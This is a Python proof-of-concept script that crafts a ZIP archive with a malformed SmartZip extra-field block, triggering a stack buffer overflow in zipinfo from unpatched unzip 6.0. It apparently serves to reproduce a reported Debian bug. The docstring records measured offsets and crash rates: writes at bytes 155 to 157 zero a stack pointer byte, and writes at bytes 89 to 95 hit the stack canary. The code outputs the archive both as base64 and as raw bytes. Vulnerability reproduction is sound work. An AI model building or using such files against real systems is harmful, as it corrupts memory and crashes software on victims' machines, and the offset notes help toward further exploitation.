#!/usr/bin/env python3
"""Writes smartzip-156.zip.b64 (base64 of the archive: the plan's `write` step takes text) and,
given a second path, the archive itself. The archive: one stored member whose extra field is a SmartZip block
(header 0x4d63, 64 bytes, "dZip") claiming a 156-byte Mac filename. zipinfo -v before
unzip 6.0-28+deb12u1 copies 31 bytes into a 32-byte stack buffer and then writes the
terminating NUL at index 156 (Debian #1142905, CAN-2026-2034443): a stack pointer's byte
is zeroed and zipinfo faults. 156 was measured against bookworm's 6.0-28: 300 of 300 runs
fault (bytes 155-157 all do; 89-95 hit the stack canary instead, which glibc catches only
when that canary byte was not zero already).

    python3 make-smartzip.py smartzip-156.zip.b64 [smartzip-156.zip]
"""
import base64
import io
import struct
import sys
import zipfile

LENGTH = 156
data = b"dZip" + b"TEXTttxt" + b"\0" * 20 + bytes([LENGTH]) + b"srukit-smartzip-name".ljust(31, b"A")
assert len(data) == 64  # EB_SMARTZIP_HLEN: zipinfo ignores a block of any other size
member = zipfile.ZipInfo("hello.txt", date_time=(2026, 1, 1, 0, 0, 0))
member.extra = struct.pack("<HH", 0x4D63, len(data)) + data
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as archive:
    archive.writestr(member, "hello\n")
with open(sys.argv[1], "w") as out:
    out.write(base64.encodebytes(buf.getvalue()).decode())
if len(sys.argv) > 2:
    with open(sys.argv[2], "wb") as out:
        out.write(buf.getvalue())
